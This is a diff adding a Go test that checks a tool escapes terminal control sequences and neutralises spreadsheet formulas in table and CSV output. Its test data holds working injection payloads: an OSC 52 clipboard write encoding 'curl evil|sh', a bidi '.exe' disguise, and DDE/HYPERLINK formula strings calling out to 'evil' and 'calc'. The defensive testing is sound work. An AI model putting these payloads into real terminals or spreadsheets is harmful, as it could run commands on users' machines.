@@ -261,3 +261,47 @@ func TestProgressLine(t *testing.T) {
 		t.Error("group")
 	}
 }
+
+// TestHostileDocuments: text from documents reaches a terminal (table) or
+// a spreadsheet (csv). ESC/OSC/CSI sequences, C1 controls and bidi
+// overrides are shown as \xHH/\uHHHH, never sent; csv text cells a
+// spreadsheet would run as formulas get a leading ' (numbers and bare
+// @names stay), unless CSVRaw.
+func TestHostileDocuments(t *testing.T) {
+	src := `{"title":"\u001b]0;pwned\u0007x","clip":"\u001b]52;c;Y3VybCBldmlsfHNo\u001b\\","color":"\u001b[31mred\u001b[0m",` +
+		`"c1":"\u009b2J","bidi":"abc\u202etxt.exe","f1":"=HYPERLINK(\"http://evil\",\"x\")","f2":"+cmd|' /C calc'!A0","f3":"-2+3+cmd|' /C calc'!A0",` +
+		`"f4":"@SUM(1+1)*cmd|' /C calc'!A0","f5":"\tx","neg":"-5","num":-7,"at":"@timestamp","plain":"hello","multi":"a\nb","\u001b[2Jkey":1}`
+	hs := hits(t, src)
+	hs[0].ID = "=1+1"
+	table := render(t, FormatOptions{Format: "table", WithMeta: true}, hs)
+	csvOut := render(t, FormatOptions{Format: "csv", WithMeta: true}, hs)
+	raw := render(t, FormatOptions{Format: "csv", WithMeta: true, CSVRaw: true}, hs)
+	for name, out := range map[string]string{"table": table, "csv": csvOut, "csv raw": raw} {
+		if i := strings.IndexFunc(out, func(r rune) bool {
+			return (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r < 0xa0) || (r >= 0x202a && r <= 0x202e)
+		}); i >= 0 {
+			t.Errorf("%s: control character %q reached the output: %q", name, out[i:i+1], out)
+		}
+		for _, want := range []string{`\x1b]0;pwned\x07x`, `\x1b]52;c;`, `\x1b[31mred\x1b[0m`, `\x9b2J`, `abc\u202etxt.exe`, `\x1b[2Jkey`} {
+			if !strings.Contains(out, want) {
+				t.Errorf("%s: %q not shown as text", name, want)
+			}
+		}
+	}
+	for _, want := range []string{`'=1+1`, `"'=HYPERLINK(""http://evil"",""x"")"`, `'+cmd|`, `'-2+3+cmd|`, `'@SUM(1+1)`, "'\tx", `,-5,-7,@timestamp,hello,"a` + "\n" + `b",`} {
+		if !strings.Contains(csvOut, want) {
+			t.Errorf("csv: want %q in %q", want, csvOut)
+		}
+	}
+	for _, bad := range []string{`'-5`, `'-7`, `'@timestamp`, `'hello`} {
+		if strings.Contains(csvOut, bad) {
+			t.Errorf("csv: %q neutralised although it runs nothing", bad)
+		}
+	}
+	if strings.Contains(raw, "'=") || !strings.Contains(raw, `,=1+1,`) {
+		t.Errorf("csv raw: formulas must be kept: %q", raw)
+	}
+	if strings.Contains(table, "\n"+"b") {
+		t.Errorf("table: a line break inside a cell split the row: %q", table)
+	}
+}
